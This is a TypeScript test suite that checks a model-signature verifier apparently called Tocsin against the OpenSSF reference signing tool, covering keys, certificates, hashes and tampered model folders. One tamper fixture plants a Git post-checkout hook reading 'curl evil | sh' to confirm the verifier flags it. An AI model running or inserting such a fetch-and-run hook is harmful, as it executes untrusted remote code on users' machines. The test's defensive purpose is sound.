import { execFileSync } from 'node:child_process';
import { createPrivateKey } from 'node:crypto';
import {
  appendFileSync,
  cpSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  renameSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { findModelSigning } from '../../../scripts/test-tiers.mjs';
import { signFolder } from '../../../src/demo/sign.ts';
import { testFolder } from '../../support/folder.ts';
import { type Job, referenceTool, withReferenceTool } from '../../support/model-signing.ts';
import { newKey, SOME_FILES, verifierOf, writeFiles } from './made.ts';

/** What the reference tool for OpenSSF model signatures signs is verified here, and the other way round. */

const CURVES = ['P-256', 'P-384', 'P-521'];

/** A folder with some files, and the jobs that sign it with a key of this kind. */
function toSign(kind: string, options: Partial<Job> = {}) {
  const place = testFolder();
  const folder = join(place, 'model');
  mkdirSync(folder);
  writeFiles(folder, SOME_FILES);
  const [privatePath, publicPath] = [join(place, 'key'), join(place, 'key.pub')];
  const jobs: Job[] = [
    { do: 'key', kind, private: privatePath, public: publicPath },
    { do: 'sign', folder, signature: join(folder, 'model.sig'), private: privatePath, ...options },
  ];
  return { folder, jobs, publicKey: `file:${publicPath}`, publicPath, place };
}

describe('signed by the reference tool with a key', () => {
  test.each(CURVES)('a folder signed on %s is valid', async (curve) => {
    const { folder, jobs, publicKey } = toSign(curve);
    await withReferenceTool(jobs);
    expect(await verifierOf({ keys: [publicKey] }).verify(folder)).toMatchObject({
      valid: true,
      code: 'valid',
      files: 4,
      signer: expect.stringMatching(/^key [0-9a-f]{16}$/),
      detail: expect.stringMatching(/^All 4 files are as signed by key /),
    });
  });

  test.each(['secp256k1', 'rsa', 'ed25519'])('a key of type %s is refused, as the tool refuses it', async (kind) => {
    const { folder, jobs, publicKey } = toSign(kind);
    expect(await referenceTool(jobs)).toMatchObject([{ ok: true }, { ok: false }]);
    await expect(verifierOf({ keys: [publicKey] }).verify(folder)).rejects.toMatchObject({ code: 'key-unsupported' });
  });

  test.each([
    ['blake2b', { hash: 'blake2' }],
    ['shards of 100 bytes', { shardBytes: 100 }],
    ['shards of 100 bytes, blake2b', { shardBytes: 100, hash: 'blake2' }],
    ['shards that end with the file', { shardBytes: 150 }],
  ])('%s: valid, until one byte changes', async (_, options) => {
    const { folder, jobs, publicKey } = toSign('P-256', options);
    await withReferenceTool(jobs);
    const verifier = verifierOf({ keys: [publicKey] });
    expect(await verifier.verify(folder)).toMatchObject({ valid: true, files: 4 });
    const changed = Buffer.from(SOME_FILES['weights.bin']);
    changed[299] = (changed[299] as number) ^ 1;
    writeFileSync(join(folder, 'weights.bin'), changed);
    expect(await verifier.verify(folder)).toMatchObject({
      code: 'changed',
      detail: 'weights.bin changed after signing.',
    });
    writeFileSync(join(folder, 'weights.bin'), SOME_FILES['weights.bin'].subarray(0, 200));
    expect(await verifier.verify(folder)).toMatchObject({ code: 'changed' });
  });

  test('blake3 is refused in words', async () => {
    const { folder, jobs, publicKey } = toSign('P-256', { hash: 'blake3' });
    await withReferenceTool(jobs);
    expect(await verifierOf({ keys: [publicKey] }).verify(folder)).toMatchObject({
      code: 'malformed',
      detail: 'The hash "blake3" is not supported: sign with sha256 or blake2b.',
    });
  });

  test('what is tampered with is found here wherever the tool finds it', async () => {
    const { folder, jobs, publicKey, publicPath, place } = toSign('P-256');
    await withReferenceTool(jobs);
    const tampering: Record<string, { code: string; act: (at: string) => void }> = {
      'a file has changed': { code: 'changed', act: (at) => appendFileSync(join(at, 'config.json'), ' ') },
      'a file is new': { code: 'unlisted', act: (at) => writeFileSync(join(at, 'evil.py'), 'import os') },
      'a file is new, and empty': { code: 'unlisted', act: (at) => writeFileSync(join(at, '__init__.py'), '') },
      'a file is new deep inside': {
        code: 'unlisted',
        act: (at) => writeFiles(at, { 'tokenizer/a/b.py': 'import os' }),
      },
      'a file is gone': { code: 'missing', act: (at) => rmSync(join(at, 'weights.bin')) },
      'a file has another name': {
        code: 'missing',
        act: (at) => renameSync(join(at, 'weights.bin'), join(at, 'Weights.bin')),
      },
      'a file became a link to the same content': {
        code: 'changed',
        act: (at) => {
          renameSync(join(at, 'weights.bin'), join(place, 'elsewhere.bin'));
          symlinkSync(join(place, 'elsewhere.bin'), join(at, 'weights.bin'));
        },
      },
      'a folder became a link': {
        code: 'missing',
        act: (at) => {
          renameSync(join(at, 'tokenizer'), join(place, 'elsewhere'));
          symlinkSync(join(place, 'elsewhere'), join(at, 'tokenizer'));
        },
      },
    };
    const cases = Object.entries(tampering).map(([what, { code, act }], i) => {
      const at = join(place, `copy${i}`);
      cpSync(folder, at, { recursive: true });
      act(at);
      return { what, code, at };
    });
    const said = await referenceTool(
      cases.map(({ at }) => ({ do: 'verify', folder: at, signature: join(at, 'model.sig'), public: publicPath })),
    );
    expect(cases.filter((_, i) => said[i]?.ok).map(({ what }) => what)).toEqual([]);
    const verifier = verifierOf({ keys: [publicKey] });
    for (const { what, code, at } of cases)
      expect({ what, code: (await verifier.verify(at)).code }).toEqual({ what, code });
  });

  test('a pipe among the artefacts is refused, not read', async () => {
    const { folder, jobs, publicKey } = toSign('P-256');
    await withReferenceTool(jobs);
    execFileSync('mkfifo', [join(folder, 'pipe')]);
    expect(await verifierOf({ keys: [publicKey] }).verify(folder)).toMatchObject({
      code: 'unlisted',
      detail: 'pipe (is no regular file) not signed.',
    });
  });

  test('what its signer left out is not exempt by that alone', async () => {
    const { folder, jobs, publicKey } = toSign('P-256', { ignore: ['notes', 'README.md'] });
    writeFiles(folder, { 'notes/a.txt': 'a', 'README.md': 'b', '.gitattributes': '*.bin lfs', '.git/HEAD': 'x' });
    await withReferenceTool(jobs);
    expect(await verifierOf({ keys: [publicKey] }).verify(folder)).toMatchObject({
      code: 'unlisted',
      detail: expect.stringContaining('its signer left it out: if that is meant, name it in "ignore"'),
    });
    const lenient = verifierOf({ keys: [publicKey], ignore: ['notes/a.txt', 'README.md'] });
    expect(await lenient.verify(folder)).toMatchObject({ valid: true, files: 4 });
    writeFiles(folder, { 'tokenizer/.git/HEAD': 'x' });
    expect(await lenient.verify(folder)).toMatchObject({ code: 'unlisted' });
  });

  test('the paths of Git are not exempt when the signer had them signed', async () => {
    const { folder, jobs, publicKey } = toSign('P-256', { git: false });
    writeFiles(folder, { '.gitattributes': '*.bin lfs' });
    await withReferenceTool(jobs);
    const verifier = verifierOf({ keys: [publicKey] });
    expect(await verifier.verify(folder)).toMatchObject({ valid: true, files: 5 });
    writeFiles(folder, { '.git/hooks/post-checkout': 'curl evil | sh' });
    expect(await verifier.verify(folder)).toMatchObject({ code: 'unlisted' });
  });

  test('another key: untrusted', async () => {
    const { folder, jobs } = toSign('P-256');
    await withReferenceTool(jobs);
    expect(await verifierOf({ keys: [newKey().publicKey] }).verify(folder)).toMatchObject({
      code: 'untrusted',
      signer: '',
      files: 0,
    });
  });
});

describe('signed by the reference tool with a certificate', () => {
  let place = '';
  let pki = '';
  let folder = '';
  const at = (name: string) => join(pki, `${name}.pem`);
  const CA = { ca: true, usage: ['key_cert_sign', 'crl_sign'] };
  const LEAF = { issuer: 'issuing', usage: ['digital_signature'], purpose: ['code-signing'] };

  /** Signs with the certificate of this name; the rest of the chain goes into the bundle. */
  const signing = (name: string, chain: string[]): Job => ({
    do: 'sign',
    folder,
    signature: join(pki, `${name}.sig`),
    private: join(pki, `${name}.key`),
    certificate: at(name),
    chain: chain.map(at),
  });

  beforeAll(async () => {
    place = mkdtempSync(join(tmpdir(), 'tocsin-test-'));
    pki = join(place, 'pki');
    folder = join(place, 'model');
    mkdirSync(pki);
    mkdirSync(folder);
    writeFiles(folder, SOME_FILES);
    const make = (name: string, options: Partial<Job>): Job => ({
      do: 'certificate',
      folder: pki,
      name,
      subject: `Example ${name}`,
      ...options,
    });
    const made = [
      make('root', CA),
      make('rsa-root', { ...CA, kind: 'rsa' }),
      make('other-root', CA),
      make('issuing', { ...CA, issuer: 'root', below: 0 }),
      make('deeper', { ...CA, issuer: 'issuing' }),
      make('no-authority', { issuer: 'root', ca: false, usage: ['digital_signature'] }),
      make('no-issuer', { issuer: 'root', ca: true, usage: ['digital_signature'] }),
      make('good', LEAF),
      make('good-384', { ...LEAF, kind: 'P-384' }),
      make('good-521', { ...LEAF, kind: 'P-521' }),
      make('of-rsa', { ...LEAF, issuer: 'rsa-root' }),
      make('usage-only', { issuer: 'issuing', usage: ['digital_signature'] }),
      make('purpose-only', { issuer: 'issuing', purpose: ['code-signing'] }),
      make('server', { ...LEAF, purpose: ['server'] }),
      make('encipherer', { ...LEAF, usage: ['key_encipherment'] }),
      make('no-use', { issuer: 'issuing' }),
      make('expired', { ...LEAF, until: '2025-01-01T00:00:00+00:00' }),
      make('future', { ...LEAF, from: '2027-01-01T00:00:00+00:00' }),
      make('demanding', { ...LEAF, demands: '1.2.3.4.5' }),
      make('of-deeper', { ...LEAF, issuer: 'deeper' }),
      make('of-no-authority', { ...LEAF, issuer: 'no-authority' }),
      make('of-no-issuer', { ...LEAF, issuer: 'no-issuer' }),
      make('alone', { usage: ['digital_signature'], purpose: ['code-signing'] }),
    ];
    const chainOf = (name: string): string[] => {
      if (name === 'of-deeper') return ['deeper', 'issuing'];
      if (name.startsWith('of-no-')) return [name.slice(3)];
      // The tool wants at least one; what it names is trusted no more for that.
      if (name === 'of-rsa' || name === 'alone') return [name === 'alone' ? 'alone' : 'rsa-root'];
      return ['issuing'];
    };
    const leaves = made.slice(7).map(({ name }) => String(name));
    await withReferenceTool([...made, ...leaves.map((name) => signing(name, chainOf(name)))]);
  });

  afterAll(() => rmSync(place, { recursive: true, force: true }));

  const verify = (name: string, authorities: string[], keys: string[] = []) => {
    cpSync(join(pki, `${name}.sig`), join(folder, 'model.sig'));
    return verifierOf({ keys, certificates: authorities.map((authority) => `file:${at(authority)}`) }).verify(folder);
  };

  test.each(['good', 'good-384', 'good-521', 'usage-only', 'purpose-only'])('%s: valid', async (name) => {
    expect(await verify(name, ['root'])).toMatchObject({ valid: true, signer: `Example ${name}`, files: 4 });
  });

  test('one of several authorities is enough, be it a root, an issuing one or one with an RSA key', async () => {
    expect(await verify('good', ['other-root', 'root'])).toMatchObject({ valid: true });
    expect(await verify('good', ['issuing'])).toMatchObject({ valid: true });
    expect(await verify('of-rsa', ['rsa-root'])).toMatchObject({ valid: true });
    expect(await verify('alone', ['alone'])).toMatchObject({ valid: true });
  });

  test.each([
    ['good', ['other-root'], 'was issued by no authority that is trusted'],
    ['alone', ['root'], 'was issued by no authority that is trusted'],
    ['server', ['root'], 'is not for signing'],
    ['encipherer', ['root'], 'is not for signing'],
    ['no-use', ['root'], 'is not for signing'],
    ['expired', ['root'], 'expired on 2025-01-01T00:00:00.000Z'],
    ['future', ['root'], 'is not valid before 2027-01-01T00:00:00.000Z'],
    ['demanding', ['root'], 'demands 1.2.3.4.5, which is not understood here'],
    ['of-deeper', ['root'], 'may not stand that far above'],
    ['of-no-authority', ['root'], 'was issued by no authority that is trusted'],
    ['of-no-issuer', ['root'], 'was issued by no authority that is trusted'],
  ])('%s with %j trusted: untrusted, because it %s', async (name, authorities, why) => {
    const verdict = await verify(name, authorities);
    expect(verdict).toMatchObject({ valid: false, code: 'untrusted', signer: '' });
    expect(verdict.detail).toContain(why);
  });

  test('a certificate does not help where only keys are trusted, and a key where only certificates are', async () => {
    expect(await verify('good', [], [newKey().publicKey])).toMatchObject({ code: 'untrusted' });
    const other = toSign('P-256');
    await withReferenceTool(other.jobs);
    const byCertificate = verifierOf({ certificates: [`file:${at('root')}`] });
    expect(await byCertificate.verify(other.folder)).toMatchObject({ code: 'untrusted' });
  });
});

test('the commands that docs/connectors.md shows sign a model that verifies', async () => {
  const folder = testFolder();
  writeFiles(join(folder, 'my-model'), SOME_FILES);
  const page = readFileSync('docs/connectors.md', 'utf8');
  const commands = /```sh\n([^`]*model_signing sign[^`]*)```/.exec(page)?.[1] ?? '';
  const PATH = `${dirname(findModelSigning() ?? '')}:${process.env.PATH}`;
  execFileSync('sh', ['-ec', commands], { cwd: folder, env: { ...process.env, PATH }, stdio: 'pipe' });
  const verifier = verifierOf({ keys: [`file:${join(folder, 'signer.pub')}`] });
  expect(await verifier.verify(join(folder, 'my-model'))).toMatchObject({ valid: true, files: 4 });
});

describe('signed by Tocsin', () => {
  test('the reference tool accepts it, and notices a change', async () => {
    const { folder, jobs, publicPath, place } = toSign('P-256');
    await withReferenceTool([jobs[0] as Job]);
    await signFolder(folder, createPrivateKey(readFileSync(join(place, 'key'))));
    const verify: Job = { do: 'verify', folder, signature: join(folder, 'model.sig'), public: publicPath };
    expect(await referenceTool([verify])).toEqual([{ ok: true, error: '' }]);
    appendFileSync(join(folder, 'weights.bin'), 'x');
    expect(await referenceTool([verify])).toEqual([
      { ok: false, error: expect.stringContaining("Hash mismatch for 'weights.bin'") },
    ]);
  });
});
